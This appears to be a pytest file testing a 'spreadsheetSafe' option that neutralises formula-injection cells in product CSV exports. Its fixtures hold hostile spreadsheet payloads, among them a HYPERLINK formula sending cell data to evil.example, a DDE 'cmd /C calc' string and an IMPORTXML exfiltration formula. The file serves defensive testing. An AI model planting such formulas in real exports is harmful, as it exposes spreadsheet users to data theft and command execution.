"""Spreadsheet-safe parts (``spreadsheetSafe=true``): no cell can start a formula in Excel or
LibreOffice, and a UTF-8 BOM; the default parts stay byte-exact. Both through the real workflow."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
import requests

from local.stack import EmbeddedStack
from product_export.export.columns import Column
from product_export.export.spreadsheet import BOM, neutralise, neutralise_columns, neutralise_items
from tests.support import ApiClient, expected_cells, parse_csv

pytestmark = pytest.mark.workflow

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DANGEROUS: dict[str, Any] = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "description": "+cmd|' /C calc'!A0",
    "sku": "-2+3",
    "slug": "@SUM(1+1)",
    "mpn": "\t=1+1",
    "upc_ean": "\r=1+1",
    "tags": ["=tag", "ok"],
    "extensions": {"products(specs)": {"formula": "=1+1", "size": -5, "ratio": -0.5, "ok": True}},
    "admin_attributes": {"cost": '=IMPORTXML(CONCAT("http://x/?",A2),"//a")', "semi": "12;=1+1", "a;=b": "x"},
    "shopper_attributes": {"fit": "plain, harmless"},
}


def _product(number: int, **overrides: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "name": f"Plain {number}",
        "sku": f"S-{number}",
        "commodity_type": "physical",
        "status": "live",
    }
    return base | overrides


def _parts(job: dict[str, Any]) -> list[bytes]:
    assert job["attributes"]["status"] == "success", job
    return [requests.get(url, timeout=30).content for url in job["meta"]["file_locations"]]


def _rows(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _formula_cells(header: list[str], rows: list[dict[str, str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character, in a ',' or ';' locale."""
    cells = header + [cell for row in rows for cell in row.values()]
    return [cell for cell in cells for segment in cell.split(";") if segment.startswith(FORMULA_STARTS)]


def test_default_parts_are_byte_exact_and_safe_parts_neutralise_every_formula(
    stack: EmbeddedStack, admin: ApiClient
) -> None:
    dangerous = admin.create_product(_product(1, **DANGEROUS))
    plain = admin.create_product(_product(2, description="Fine; really", tags=["a"]))

    (exact,) = _parts(admin.wait_for_job(admin.export(use_template_slugs=True)["id"]))
    assert not exact.startswith(BOM) and exact.startswith(b"id,")
    header, rows = parse_csv(exact)
    by_id = {row["id"]: row for row in rows}
    for resource in (dangerous, plain):
        for column, value in expected_cells(resource).items():
            assert by_id[resource["id"]][column] == value, column  # exactly as stored, formulas and all
    assert _formula_cells(header, rows), "the default file keeps the dangerous cells as they are"

    response = admin.post(
        "/pcm/products/export", query={"spreadsheetSafe": "true", "useTemplateSlugs": "true"}
    )
    assert response.status == 201, response.body
    job = admin.wait_for_job(response.json()["data"]["id"])
    assert job["meta"]["spreadsheet_safe"] is True
    (safe,) = _parts(job)
    assert safe.startswith(BOM) and safe[len(BOM) :].startswith(b"id,")
    safe_header, safe_rows = _rows(safe)
    assert _formula_cells(safe_header, safe_rows) == []
    assert len(safe_rows) == len(rows) and [h.replace("'", "") for h in safe_header] == header
    safe_by_id = {row["id"]: row for row in safe_rows}
    original = by_id[dangerous["id"]]
    for column, cell in safe_by_id[dangerous["id"]].items():
        source = original[column.replace(";'", ";")]
        if source.startswith(FORMULA_STARTS):
            assert cell == "'" + source, column
        elif ";" not in source:
            assert cell == source, column  # anything harmless is left alone
    assert safe_by_id[dangerous["id"]]["admin_attributes.semi"] == "12;'=1+1"
    assert safe_by_id[dangerous["id"]]["template:specs:size"] == "'-5", "no exception, not even numbers"
    assert "admin_attributes.a;'=b" in safe_header
    assert list(safe_by_id[plain["id"]].values()) == list(by_id[plain["id"]].values()), "harmless: the same"


def test_the_option_is_validated(admin: ApiClient) -> None:
    for value in ("maybe", "1", "yes"):
        response = admin.post("/pcm/products/export", query={"spreadsheetSafe": value})
        assert response.status == 400, value
        assert response.json()["errors"][0]["source"] == {"parameter": "spreadsheetSafe"}
    assert admin.get("/pcm/jobs").json()["meta"]["results"]["total"] == 0, "nothing was started"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a;=b;+c", "a;'=b;'+c"),
        ("1;2", "1;2"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        ("'=quoted", "'=quoted"),
    ],
)
def test_neutralise(text: str, safe: str) -> None:
    assert neutralise(text) == safe


def test_items_and_columns_are_neutralised_lazily_and_deeply() -> None:
    consumed: list[int] = []

    def items() -> Any:
        for n in range(3):
            consumed.append(n)
            yield {"name": "=x", "tags": ["-t"], "extensions": {"t": {"f": "@f", "n": Decimal(-1)}}, "n": n}

    stream = neutralise_items(items())
    first = next(stream)
    assert consumed == [0], "one product at a time"
    assert first == {"name": "'=x", "tags": ["'-t"], "extensions": {"t": {"f": "'@f", "n": "'-1"}}, "n": 0}
    columns = neutralise_columns([Column("admin_attributes.x;=y", ("admin_attributes", "x;=y"))])
    assert columns == [Column("admin_attributes.x;'=y", ("admin_attributes", "x;=y"))]
